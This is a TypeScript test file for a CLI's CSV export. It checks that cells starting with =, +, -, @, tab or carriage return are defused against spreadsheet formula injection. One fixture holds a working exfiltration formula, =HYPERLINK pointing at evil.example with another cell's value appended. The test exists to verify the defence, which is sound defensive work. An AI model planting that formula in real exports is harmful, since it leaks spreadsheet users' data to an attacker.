// A CSV the product writes must not be a formula a spreadsheet evaluates. The page text is the
// attacker's: a sentence that starts with "=HYPERLINK(" made LibreOffice pull another row's cells into a URL.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../cli/figures';
import { csvField } from '../../cli/csv';
import { runCli } from '../helpers/run-cli';

/** Minimal RFC 4180 reader: enough to get the cells back exactly as a spreadsheet would see them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('CSV formula injection (OWASP)', () => {
  it.each(['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('neutralises a text field starting with %j', (s) => {
    const cell = parseCsv(csvField(s) + '\r\n')[0]![0]!;
    expect(cell).toBe(`'${s}`);
  });

  it('leaves ordinary text, and numbers the tool computed, as they are', () => {
    expect(csvField('Giá giảm 320 đồng')).toBe('Giá giảm 320 đồng');
    expect(csvField(-5)).toBe('-5');
    expect(csvField('a=b')).toBe('a=b');
  });

  it('cli figures --format csv writes no cell a spreadsheet would evaluate', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tinsach-csv-'));
    const file = join(dir, 'in.jsonl');
    const text = '=HYPERLINK("http://evil.example/?"&A1;"Giá giảm 320 đồng") còn 23.450 đồng. -5% so với năm trước, đạt 15/19 tiêu chí.';
    writeFileSync(file, JSON.stringify({ id: '@id', text }) + '\n' + JSON.stringify({ id: '+x', text: '+84 hộ đạt 12% dự toán.' }) + '\n');
    const { code, out } = await runCli(main, ['--format', 'csv', file]);
    expect(code).toBe(0);
    const rows = parseCsv(out);
    expect(rows.length).toBeGreaterThan(3);
    const sentences = rows.slice(1).map((r) => r[7]);
    expect(sentences.some((s) => s?.startsWith("'=HYPERLINK("))).toBe(true);
    for (const row of rows.slice(1)) {
      expect(row[0]).toMatch(/^'[@+]/);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
